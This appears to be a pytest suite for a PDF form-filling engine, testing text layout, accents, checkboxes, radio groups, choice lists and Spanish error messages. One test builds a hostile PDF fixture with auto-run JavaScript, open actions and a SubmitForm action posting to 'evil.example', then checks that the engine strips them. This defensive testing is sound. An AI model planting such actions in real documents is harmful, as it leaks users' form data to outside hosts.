from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from konbit.errors import BadForm
from konbit.papers.pdf.compiled import compile_form

LETTERS = (
    "abcdefghijklmnopqrstuvwxyzñáéíóúüABCDEFGHIJKLMNOPQRSTUVWXYZÑÁÉÍÓÚÜèòàÈÒÀç 0123456789.,;:-()¿¡'\"/\\%&°"
)
HERE = (20, 80, 221, 101)  # where the text field of the builder stands, in pixels from the top


def check(*states: bytes, name: bytes = b"acepta", looks: int = 8) -> bytes:
    drawn = b"".join(b"/%b %d 0 R" % (state, looks) for state in states)
    return b"/Type/Annot/Subtype/Widget/F 4/FT/Btn/T(%b)/Rect[20 150 30 160]/AP<</N<<%b>>>>/AS/Off" % (
        name,
        drawn,
    )


# -- text -----------------------------------------------------------------------------------------------------


def test_the_original_bytes_stay_and_the_rest_is_appended(build, text, stored, sound):
    for as_stream in (False, True):
        data = build(text(), as_stream=as_stream)
        filled = compile_form(data).fill({"nombre": "Óscar Ñuñoa"})
        assert filled.data.startswith(data)
        assert stored(filled.data) == {"nombre": "Óscar Ñuñoa"}
        assert filled.fields_set == 1
        assert not filled.overflow
        assert not filled.warnings
        added = filled.data[len(data) :]
        assert (b"/Type/XRef" in added) is as_stream
        assert (b"trailer" in added) is not as_stream
        sound(filled.data)


def test_nothing_to_write_changes_nothing(one_text):
    assert compile_form(one_text).fill({}).data == one_text


def test_the_same_values_give_the_same_bytes_and_others_another_id(one_text):
    from pypdf import PdfReader

    form = compile_form(one_text)
    assert form.fill({"nombre": "Ana"}).data == form.fill({"nombre": "Ana"}).data
    ids = [PdfReader(io.BytesIO(form.fill({"nombre": n}).data)).trailer["/ID"] for n in ("Ana", "Eva")]
    assert ids[0][0] == ids[1][0]
    assert ids[0][1] != ids[1][1]


def test_the_text_is_seen_in_its_field_and_nowhere_else(one_text, gray, ink):
    before, after = gray(one_text), gray(compile_form(one_text).fill({"nombre": "Jean-Baptiste"}).data)
    assert ink(before, after, HERE) > 50
    assert ink(before, after) == ink(before, after, HERE)


@pytest.mark.parametrize(("alignment", "first", "last"), [(0, 20, 60), (1, 90, 150), (2, 180, 221)])
def test_alignment(build, text, gray, ink, alignment, first, last):
    data = build(text(more=b"/Q %d" % alignment))
    before, after = gray(data), gray(compile_form(data).fill({"nombre": "Marie"}).data)
    assert ink(before, after, (first, 80, last, 101)) == ink(before, after) > 0


@pytest.mark.parametrize(("turn", "half"), [(0, (20, 80, 60, 101)), (180, (180, 80, 221, 101))])
def test_a_turned_widget_is_read_from_its_own_side(build, text, gray, ink, turn, half):
    data = build(text(more=b"/MK<</R %d>>" % turn))
    before, after = gray(data), gray(compile_form(data).fill({"nombre": "Lia"}).data)
    assert ink(before, after, half) == ink(before, after) > 0


@pytest.mark.parametrize(("turn", "half"), [(90, (100, 160, 121, 281)), (270, (100, 79, 121, 160))])
def test_a_widget_turned_by_a_quarter(build, text, gray, ink, turn, half):
    data = build(text(rect=b"100 20 120 220", more=b"/MK<</R %d>>" % turn))
    before, after = gray(data), gray(compile_form(data).fill({"nombre": "Lia Rosa"}).data)
    assert ink(before, after, half) == ink(before, after) > 0


def test_automatic_size_fits_the_height_and_a_long_text_shrinks(build, text):
    data = build(text())
    form = compile_form(data)
    sizes = []
    for value in ("Ana", "Ana María de los Ángeles Pierre-Louis Saint-Fleur"):
        filled = form.fill({"nombre": value})
        added = filled.data[len(data) :]
        sizes.append(float(added.split(b"/Helv ")[2].split(b" Tf")[0]))
        assert not filled.overflow
    assert sizes[0] == 12
    assert 8 <= sizes[1] < 12


def test_what_does_not_fit_is_reported_cut_at_a_word(one_text):
    value = "Jean Baptiste Toussaint Louverture Christophe Dessalines Pétion Boyer Geffrard Salnave"
    filled = compile_form(one_text).fill({"nombre": value})
    (over,) = filled.overflow
    assert (over.field, over.page) == ("nombre", 1)
    assert f"{over.shown} {over.rest}" == value
    assert over.shown
    assert filled.data.count(over.shown.encode("latin-1") + b") Tj") == 1


def test_a_list_is_cut_after_an_item(build, text):
    data = build(text(rect=b"20 200 118 215"))
    (over,) = compile_form(data).fill({"nombre": "Juan Pérez; Ana Soto Díaz; Luis Paz"}).overflow
    assert (over.shown, over.rest) == ("Juan Pérez;", "Ana Soto Díaz; Luis Paz")


def test_several_lines_wrap_at_words_and_continue_elsewhere(build, text, stored):
    data = build(text(rect=b"20 100 220 180", more=b"/Ff 4096"))
    form = compile_form(data)
    story = (
        "Llegué en 2018 por Colchane.\n" + "Trabajo de temporera en la fruta y vivo con mis dos hijos. " * 20
    )
    assert not form.fill({"nombre": story[:150]}).overflow
    filled = form.fill({"nombre": story})
    (over,) = filled.overflow
    assert stored(filled.data)["nombre"] == story
    assert over.shown.split() + over.rest.split() == story.split()


def test_a_comb_puts_one_character_in_each_cell(build, text, gray, ink):
    data = build(text(rect=b"20 200 220 220", more=b"/Ff 16777216/MaxLen 10"))
    before, after = gray(data), gray(compile_form(data).fill({"nombre": "12.345"}).data)
    cells = [ink(before, after, (20 + 20 * n, 80, 40 + 20 * n, 101)) for n in range(10)]
    assert all(cells[:6])
    assert not any(cells[6:])


def test_the_limit_of_characters_is_kept_and_the_field_named(build, text):
    form = compile_form(build(text(more=b"/MaxLen 5")))
    form.fill({"nombre": "12345"})
    with pytest.raises(BadForm, match=r"«nombre» admite 5 caracteres y el texto tiene 6"):
        form.fill({"nombre": "123456"})


def test_composed_and_decomposed_accents_are_the_same(build, text, stored):
    form = compile_form(build(text(more=b"/MaxLen 5")))
    assert stored(form.fill({"nombre": unicodedata.normalize("NFD", "Ñandú")}).data)["nombre"] == "Ñandú"


@pytest.mark.parametrize("value", ["“Ana” — 5 €", "Łódź", "Ștefan", "d’Haïti", "Ωmega Жуков"])
def test_letters_beyond_the_form_are_written_and_never_a_question_mark(
    one_text, stored, gray, ink, sound, value
):
    filled = compile_form(one_text).fill({"nombre": value})
    assert stored(filled.data) == {"nombre": value}
    assert ink(gray(one_text), gray(filled.data), HERE) > 20
    assert not re.search(rb"\?[^()]*\) Tj", filled.data)
    sound(filled.data)


def test_the_shipped_font_is_embedded_only_where_needed(one_text):
    form = compile_form(one_text)
    assert b"FontFile2" not in form.fill({"nombre": "Ñandú “5 €”"}).data
    foreign = form.fill({"nombre": "Łódź"}).data
    assert b"FontFile2" in foreign
    assert len(foreign) - len(one_text) < 25_000


def test_embedded_letters_are_the_right_ones(build, text):
    """The text that pdfium finds in the drawn page, through the subset's own table."""
    import pypdfium2

    form = compile_form(build(text()))
    flat = form.fill({"nombre": "Łódź Ștefan Ệ"}, flat=True).data
    page = pypdfium2.PdfDocument(flat)[0]
    assert page.get_textpage().get_text_range().strip() == "Łódź Ștefan Ệ"


@pytest.mark.parametrize(
    ("value", "told"), [("李 Wei", "李 (U+674E"), ("a\u200bb", "U+200B"), ("a\x07b", "U+0007")]
)
def test_a_character_nobody_can_draw_is_refused_by_name(one_text, value, told):
    with pytest.raises(BadForm) as caught:
        compile_form(one_text).fill({"nombre": value})
    assert "«nombre»" in str(caught.value)
    assert told in str(caught.value)


def test_line_breaks_in_a_single_line_are_joined_and_told(one_text, stored):
    filled = compile_form(one_text).fill({"nombre": "Calle 1\nDepto 2"})
    assert stored(filled.data) == {"nombre": "Calle 1 Depto 2"}
    assert [str(w) for w in filled.warnings] == [
        "El campo «nombre» tiene una sola línea: se juntaron las del texto."
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(LETTERS, max_size=40))
def test_any_spanish_or_creole_text_reads_back(one_text, stored, value):
    filled = compile_form(one_text).fill({"nombre": value})
    assert stored(filled.data)["nombre"] == unicodedata.normalize("NFC", value)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(LETTERS + "\n", max_size=400))
def test_no_word_is_lost_between_field_and_annex(build, text, value):
    form = compile_form(build(text(rect=b"20 150 220 190", more=b"/Ff 4096")))
    overflow = form.fill({"nombre": value}).overflow
    if overflow:
        (over,) = overflow
        assert (over.shown + " " + over.rest).split() == unicodedata.normalize("NFC", value).split()


# -- what is refused ------------------------------------------------------------------------------------------


def test_an_unknown_field_is_refused_with_the_near_miss(one_text):
    with pytest.raises(BadForm, match=r"no tiene el campo «nonbre».*«nombre»"):
        compile_form(one_text).fill({"nonbre": "Ana"})


def test_the_last_part_of_a_long_name_suggests_the_whole(build, text):
    form = compile_form(build(text("form1[0].#subform[0].Line1a_FamilyName[0]")))
    with pytest.raises(BadForm, match=r"#subform\[0\]\.Line1a_FamilyName"):
        form.fill({"Line1a_FamilyNane": "x"})


@pytest.mark.parametrize("value", [True, ["a"], 3])
def test_text_wants_text(one_text, value):
    with pytest.raises(BadForm, match="«nombre» es de texto"):
        compile_form(one_text).fill({"nombre": value})


def test_a_signature_and_a_button_are_not_filled(build, text):
    data = build(
        text(),
        b"/FT/Sig/T(firma)/Subtype/Widget/Rect[0 0 9 9]",
        b"/FT/Btn/Ff 65536/T(b)/Subtype/Widget/Rect[0 0 9 9]",
    )
    form = compile_form(data)
    with pytest.raises(BadForm, match="de firma"):
        form.fill({"firma": "x"})
    with pytest.raises(BadForm, match="botón"):
        form.fill({"b": True})


def test_a_barcode_is_never_written_over(build, text):
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Length 1>>"
    )
    look = b"<</Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I 8 0 R>>>>/Length 5>>\nstream\n/I Do\nendstream"
    data = build(text(more=b"/Ff 1/AP<</N 9 0 R>>"), extra=(picture + b"\nstream\n0\nendstream", look))
    with pytest.raises(BadForm, match="código de barras"):
        compile_form(data).fill({"nombre": "x"})


def test_a_read_only_field_is_filled_with_a_warning(build, text):
    (warning,) = compile_form(build(text(more=b"/Ff 1"))).fill({"nombre": "x"}).warnings
    assert "solo lectura" in str(warning)


# -- boxes ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [True, "Sí", "/Sí", "S#ED", "/S#ED"])
def test_an_odd_state_is_written_with_its_own_bytes(build, look, sound, value):
    data = build(check(b"S#ED", b"Off"), extra=(look(),))
    filled = compile_form(data).fill({"acepta": value}).data
    added = filled[len(data) :]
    assert b"/V/S#ED" in added
    assert b"/AS/S#ED" in added
    sound(filled)


@pytest.mark.parametrize(("state", "value"), [(b"#20APT#20", " APT "), (b"#20APT#20", "APT"), (b"5", "5")])
def test_states_with_spaces_and_digits(build, look, value, state):
    data = build(check(state, b"Off"), extra=(look(),))
    assert b"/V/" + state in compile_form(data).fill({"acepta": value}).data[len(data) :]


def test_a_box_is_ticked_and_unticked(build, look, gray, ink):
    data = build(check(b"Yes"), extra=(look(),))
    form = compile_form(data)
    ticked, cleared = form.fill({"acepta": True}).data, form.fill({"acepta": False}).data
    assert ink(gray(cleared), gray(ticked), (20, 140, 31, 151)) > 10
    assert gray(cleared).getextrema()[0] > 200  # only the page's own grey square is left
    assert b"/V/Off" in cleared[len(data) :]


def test_an_unknown_state_is_refused_with_what_there_is(build, look):
    form = compile_form(build(check(b"Sara", b"Off"), extra=(look(),)))
    with pytest.raises(
        BadForm, match=r"«acepta» no tiene el estado «Sarah»; admite: «Sara».*¿Quiso decir «Sara»"
    ):
        form.fill({"acepta": "Sarah"})


@pytest.mark.parametrize("caption", [b"4", b"8", b"l", b"n", b"u", b"H"])
def test_a_box_without_appearance_gets_a_drawn_tick(build, gray, ink, sound, caption):
    box = b"/Type/Annot/Subtype/Widget/F 4/FT/Btn/T(acepta)/Rect[20 150 40 170]/MK<</CA(%b)/BC[0]>>" % caption
    data = build(box)
    filled = compile_form(data).fill({"acepta": True}).data
    assert ink(gray(data), gray(filled), (24, 134, 37, 147)) > 10
    assert b"ZaDb" not in filled
    sound(filled)


def test_a_tick_that_needs_an_unembedded_dingbat_is_drawn_as_a_path(build, gray, ink):
    dingbat = b"q BT /ZaDb 8 Tf 1 1 Td (4) Tj ET Q"
    look = (
        b"<</Subtype/Form/BBox[0 0 10 10]/Resources<</Font<</ZaDb<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>>>>>"
        b"/Length %d>>\nstream\n%b\nendstream" % (len(dingbat), dingbat)
    )
    data = build(check(b"Yes"), extra=(look,))
    filled = compile_form(data).fill({"acepta": True}).data
    assert b"/ZaDb" not in filled[len(data) :]
    assert ink(gray(data), gray(filled), (20, 140, 31, 151)) > 10


RADIO = b"/Type/Annot/Subtype/Widget/F 4/Parent 7 0 R/Rect[%d 150 %d 160]/AP<</N<</%b 10 0 R>>>>/AS/Off"


@pytest.fixture
def sexes(build, look) -> bytes:
    group = b"/FT/Btn/Ff 49152/T(sexo)/Kids[8 0 R 9 0 R]/Opt[(mujer)(hombre)]"
    return build(group, RADIO % (20, 30, b"0"), RADIO % (60, 70, b"1"), extra=(look(),))


@pytest.mark.parametrize("value", ["1", "/1", "hombre"])
def test_a_radio_group_has_one_value_and_one_mark(sexes, stored, gray, ink, value):
    form = compile_form(sexes)
    assert [field.kind for field in form.fields.values()] == ["radio"]
    filled, empty = form.fill({"sexo": value}).data, form.fill({"sexo": False}).data
    assert stored(filled)["sexo"] == "/1"
    assert ink(gray(empty), gray(filled), (60, 140, 71, 151)) > 10
    assert ink(gray(empty), gray(filled), (20, 140, 31, 151)) == 0


def test_choosing_again_moves_the_mark(sexes, gray, ink):
    once = compile_form(sexes).fill({"sexo": "0"}).data
    twice = compile_form(once).fill({"sexo": "1"}).data
    straight = compile_form(sexes).fill({"sexo": "1"}).data
    assert ink(gray(twice), gray(straight)) == 0
    again, first = (
        compile_form(once).fill({"sexo": False}).data,
        compile_form(sexes).fill({"sexo": False}).data,
    )
    assert ink(gray(again), gray(first)) == 0


def test_true_is_not_enough_for_a_radio_group(sexes):
    with pytest.raises(BadForm, match="varias opciones; diga cuál: «0», «1»"):
        compile_form(sexes).fill({"sexo": True})


# -- choices --------------------------------------------------------------------------------------------------

COMBO = b"/Type/Annot/Subtype/Widget/F 4/FT/Ch/Ff %d/T(pais)/Rect[20 100 120 115]/Opt[[(HT)(Hait\xed)][(CL)(Chile)]]"
LIST = b"/Type/Annot/Subtype/Widget/F 4/FT/Ch/Ff 2097152/T(ramos)/Rect[20 20 120 80]/Opt[(uno)(dos)(tres)]"


@pytest.mark.parametrize("value", ["HT", "Haití", ["Haití"]])
def test_a_choice_by_export_value_or_label(build, stored, gray, ink, value):
    data = build(COMBO % 131072)
    filled = compile_form(data).fill({"pais": value}).data
    assert stored(filled)["pais"] == "HT"
    assert b"(Hait\xed) Tj" in filled[len(data) :]
    assert b"/I[0]" in filled[len(data) :]
    assert ink(gray(data), gray(filled), (20, 185, 121, 201)) > 20


def test_an_unknown_choice_is_refused_unless_the_field_may_be_edited(build, stored):
    with pytest.raises(BadForm, match=r"no tiene la opción «Chille».*«Chile»"):
        compile_form(build(COMBO % 131072)).fill({"pais": "Chille"})
    free = compile_form(build(COMBO % (131072 | 262144))).fill({"pais": "Perú"}).data
    assert stored(free)["pais"] == "Perú"


def test_a_list_shows_every_chosen_row(build, stored, gray, ink):
    data = build(LIST)
    form = compile_form(data)
    one, two = form.fill({"ramos": "dos"}).data, form.fill({"ramos": ["tres", "dos"]}).data
    assert list(stored(two)["ramos"]) == ["tres", "dos"]
    assert b"/I[1 2]" in two[len(data) :]
    assert ink(gray(data), gray(two)) > ink(gray(data), gray(one)) > 100


def test_a_single_choice_takes_one(build):
    with pytest.raises(BadForm, match="una sola opción"):
        compile_form(build(COMBO % 131072)).fill({"pais": ["HT", "CL"]})


# -- several places, several names ----------------------------------------------------------------------------


def test_every_place_of_a_field_shows_the_text_in_its_own_size(build, gray, ink, stored):
    widget = b"/Type/Annot/Subtype/Widget/F 4/Parent 7 0 R/Rect[%b]"
    data = build(
        b"/FT/Tx/T(nombre)/DA(/Helv 0 Tf 0 g)/Kids[8 0 R 9 0 R]",
        widget % b"20 200 220 220",
        widget % b"20 100 220 110",
    )
    filled = compile_form(data).fill({"nombre": "Marie Claire"}).data
    high, low = (20, 80, 221, 101), (20, 190, 221, 201)
    assert ink(gray(data), gray(filled), high) > ink(gray(data), gray(filled), low) > 20
    assert stored(filled)["nombre"] == "Marie Claire"


def test_the_same_name_twice_is_one_field(build, text, gray, ink):
    data = build(text(), text(rect=b"20 100 220 120"))
    form = compile_form(data)
    assert len(form.fields) == 1
    filled = form.fill({"nombre": "Marie"}).data
    assert filled[len(data) :].count(b"/V(Marie)") == 2
    assert ink(gray(data), gray(filled), (20, 180, 221, 201)) > 20


def test_the_same_name_under_two_parents_is_two_fields(build):
    data = build(
        b"/T(madre)/Kids[9 0 R]",
        b"/T(padre)/Kids[10 0 R]",
        b"/Type/Annot/Subtype/Widget/Parent 7 0 R/FT/Tx/T(nombre)/Rect[20 20 99 40]",
        b"/Type/Annot/Subtype/Widget/Parent 8 0 R/FT/Tx/T(nombre)/Rect[20 60 99 80]",
    )
    filled = compile_form(data).fill({"madre.nombre": "Rose", "padre.nombre": "Luc"})
    added = filled.data[len(data) :]
    assert added.count(b"/V(Rose)") == added.count(b"/V(Luc)") == 1


# -- what is taken out ----------------------------------------------------------------------------------------


def test_active_content_usage_rights_and_xfa_are_out_of_reach(build, text, sound):
    from pypdf import PdfReader

    script = b"<</S/JavaScript/JS(x\\(\\))/Next<</S/SubmitForm/F(http://evil.example)>>>>"
    data = build(
        text(more=b"/AA<</K<</S/JavaScript/JS(k)>>>>/A 9 0 R"),
        b"/Type/Annot/Subtype/FileAttachment/Parent 3 0 R/Rect[0 0 9 9]/FS<</EF<</F 9 0 R>>>>",
        form=b"/XFA(<xdp/>)/NeedAppearances true/CO[7 0 R]",
        catalog=b"/OpenAction 9 0 R/AA<</WC 9 0 R>>/Names<</JavaScript<</Names[(a) 9 0 R]>>/Dests<<>>>>"
        b"/Perms<</UR3<<>>>>/NeedsRendering true",
        page=b"/AA<</O 9 0 R>>",
        extra=(script,),
    )
    filled = compile_form(data).fill({"nombre": "Ana"}).data
    sound(filled)
    root = PdfReader(io.BytesIO(filled)).trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/Perms", "/NeedsRendering"} & set(root)
    assert set(root["/Names"]) == {"/Dests"}
    assert not {"/XFA", "/NeedAppearances", "/CO"} & set(root["/AcroForm"])
    page = root["/Pages"]["/Kids"][0]
    assert "/AA" not in page
    (only,) = page["/Annots"]
    assert not {"/AA", "/A"} & set(only.get_object())
    assert compile_form(filled).active == ()


def test_values_that_waited_for_the_viewer_to_draw_them_stay_visible(build, text, gray, ink):
    data = build(text(more=b"/V(Antes)"), text("otro", rect=b"20 100 220 120"), form=b"/NeedAppearances true")
    blank = build(text(), text("otro", rect=b"20 100 220 120"))
    filled = compile_form(data).fill({"otro": "Ahora"})
    assert ink(gray(blank), gray(filled.data), HERE) > 20
    assert filled.fields_set == 1


def test_a_signed_form_is_filled_with_a_warning(build, text):
    data = build(
        text(), b"/FT/Sig/T(firma)/Subtype/Widget/Rect[0 0 9 9]/V<</Type/Sig/Contents(x)/ByteRange[0 1 2 3]>>"
    )
    (warning,) = compile_form(data).fill({"nombre": "Ana"}).warnings
    assert "firmado" in str(warning)


def test_a_calculated_field_left_empty_is_told(build, text):
    data = build(text(), text("total", rect=b"20 100 220 120"), form=b"/CO[8 0 R]")
    form = compile_form(data)
    (warning,) = form.fill({"nombre": "Ana"}).warnings
    assert "«total»" in str(warning)
    assert not form.fill({"nombre": "Ana", "total": "5"}).warnings


def test_importing_the_engine_loads_none_of_the_heavy_libraries():
    program = (
        "import sys, konbit.papers.pdf.compiled, konbit.papers.pdf.proof, konbit.papers.pdf.render, "
        "konbit.papers.pdf.jail, konbit.papers.output\n"
        "print([m for m in ('pypdf', 'reportlab', 'pypdfium2', 'PIL') if m in sys.modules])"
    )
    where = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    told = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, env=where
    )
    assert told.stdout.strip() == "[]"


def test_an_encrypted_form_with_an_empty_password_comes_out_open(one_text, stored, sound):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(one_text)))
    writer.encrypt(user_password="", owner_password="dueña", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    form = compile_form(out.getvalue())
    assert form.encrypted
    filled = form.fill({"nombre": "Ñandú"}).data
    assert stored(filled) == {"nombre": "Ñandú"}
    assert not PdfReader(io.BytesIO(filled)).is_encrypted
    sound(filled)


def test_a_broken_cross_reference_is_mended_first(build, text, stored, sound):
    data = build(text())
    broken = data.replace(b"startxref\n", b"startxref\n9")
    filled = compile_form(broken).fill({"nombre": "Ana"}).data
    assert stored(filled) == {"nombre": "Ana"}
    sound(filled)


def test_a_form_made_by_another_program(stored, sound, gray, ink):
    """reportlab's own fields: a text, a box, a radio group, a drop-down, a list."""
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(400, 300), initialFontName="Helvetica")
    canvas.drawString(20, 280, "Formulario")
    fields = canvas.acroForm
    fields.textfield(name="nombre", x=20, y=250, width=200, height=20)
    fields.checkbox(name="acepta", x=20, y=220, size=15)
    fields.radio(name="sexo", value="mujer", x=20, y=190, size=15)
    fields.radio(name="sexo", value="hombre", x=60, y=190, size=15)
    fields.choice(name="pais", value="Chile", options=["Chile", "Haití"], x=20, y=150, width=100, height=20)
    fields.listbox(name="ramo", value="uno", options=["uno", "dos"], x=20, y=90, width=100, height=40)
    canvas.showPage()
    canvas.save()
    data = out.getvalue()
    given = {"nombre": "Łucja Ñandú", "acepta": True, "sexo": "hombre", "pais": "Haití", "ramo": "dos"}
    filled = compile_form(data).fill(given).data
    sound(filled)
    assert stored(filled) == {
        "nombre": "Łucja Ñandú",
        "acepta": "/Yes",
        "sexo": "/hombre",
        "pais": "Haití",
        "ramo": "dos",
    }
    assert ink(gray(data), gray(filled), (20, 30, 221, 51)) > 30


def test_a_compiled_form_travels_to_another_process(one_text):
    import pickle

    form = compile_form(one_text)
    again = pickle.loads(pickle.dumps(form))
    assert again.fill({"nombre": "Łódź"}).data == form.fill({"nombre": "Łódź"}).data
